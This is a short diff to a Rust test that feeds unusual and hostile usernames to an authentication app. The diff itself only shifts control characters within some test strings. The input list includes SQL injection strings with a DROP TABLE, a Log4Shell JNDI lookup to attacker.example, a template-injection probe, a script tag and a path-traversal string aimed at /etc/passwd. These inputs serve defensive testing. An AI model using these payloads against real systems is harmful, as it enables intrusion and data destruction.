@@ -388,8 +388,8 @@ on_every_database! {
         let app = app(&probe.auth);
         let accounts = probe.rows().await[0];
         for strange in [
-            "\0", "alice\0", "\0alice", "ali\0ce", "alice\n", "alice\r\n", "\talice", "\u{7f}",
-            "\u{1b}[31m", "\u{85}", "\u{2028}", "\u{202e}ecila", "\u{200b}", "\u{feff}alice", "\u{fffe}",
+            "\0", "alice\0", "\0alice", "ali\0ce", "ali\nce", "ali\r\nce", "a\tlice", "\u{7f}",
+            "\u{1b}[31m", "\u{85}", "\u{2028}", "a\u{202e}ecil", "\u{200b}", "a\u{feff}lice", "\u{fffe}",
             "\u{10ffff}", "' OR 1=1 --", "alice';DROP TABLE auth_account;--", "alice\\", "%00",
             "${jndi:ldap://attacker.example}", "{{7*7}}", "<script>", "../../etc/passwd",
             "alice@", "@", "a@b@c", "+", "+0", "+1234567890123456", "🦀", &"a".repeat(10_000),
